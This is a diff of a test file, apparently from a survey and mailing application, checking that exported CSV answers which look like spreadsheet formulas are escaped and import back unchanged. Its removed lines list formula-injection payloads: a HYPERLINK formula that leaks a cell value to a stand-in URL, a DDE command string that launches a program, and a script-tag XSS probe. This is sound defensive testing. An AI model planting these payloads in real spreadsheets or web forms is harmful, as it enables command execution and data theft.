@@ -22,6 +22,8 @@ from sendportal.accounts.models import User
 from sendportal.audit.models import AuditEvent
 from tests.consultations.factories import AnswerFactory
 from tests.consultations.factories import ResponseFactory
+from tests.hostile import FORMULA_TEXT
+from tests.hostile import TRIGGERS
 
 from .conftest import CHOICE
 from .conftest import FREE
@@ -469,16 +471,7 @@ def test_exported_text_that_looks_like_a_formula_is_inert_and_imports_back(
     assert Answer.objects.get(response__import_batch=again).text_value == hostile
 
 
-HOSTILE = [
-    '=HYPERLINK("http://x?"&A1)',
-    "+cmd|' /C calc'!A0",
-    "-2+3",
-    "\t=1+1",
-    "\n=1+1",
-    "'already quoted",
-    "'=1+1",
-    "<script>alert(1)</script>",
-]
+HOSTILE = [*FORMULA_TEXT, "<script>alert(1)</script>"]
 
 
 def test_the_survey_import_export_escapes_every_hostile_answer_and_reads_it_back(
@@ -494,9 +487,7 @@ def test_the_survey_import_export_escapes_every_hostile_answer_and_reads_it_back
     exported = export_survey_responses(import_survey, "csv")
     rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
     cells = [cell for row in rows[1:] for cell in row]
-    assert not [
-        c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
-    ]
+    assert not [c for c in cells if c.startswith(TRIGGERS)]
     assert "'\n=1+1" in cells
     assert "'-2.5" in cells
 
